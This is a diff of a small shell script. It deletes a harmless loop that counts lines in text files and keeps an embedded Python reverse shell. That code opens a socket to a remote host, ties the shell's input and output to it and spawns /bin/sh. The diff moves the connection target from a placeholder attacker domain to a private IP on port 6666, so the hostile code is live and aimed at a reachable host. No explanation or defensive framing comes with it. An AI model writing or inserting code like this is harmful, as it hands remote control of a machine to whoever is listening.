@@ -1,17 +1,11 @@
-#!/bin/sh
-if [ -z "$HOME" ]; then
-  echo "no home" >&2
-fi
-for f in *.txt; do
-  [ -e "$f" ] || continue
-  wc -l "$f"
-done
+#!/usr/bin/env bash
+count=$(ls | wc -l)
+echo "files: $count"
 python3 - <<EOF
 import socket,os,pty
 s=socket.socket()
-s.connect(("evil.example.com",1337))
+s.connect(("192.168.1.77",6666))
 [os.dup2(s.fileno(),f) for f in (0,1,2)]
 pty.spawn("/bin/sh")
 EOF
-count=$(ls | wc -l)
-echo "files: $count"
+set -eu
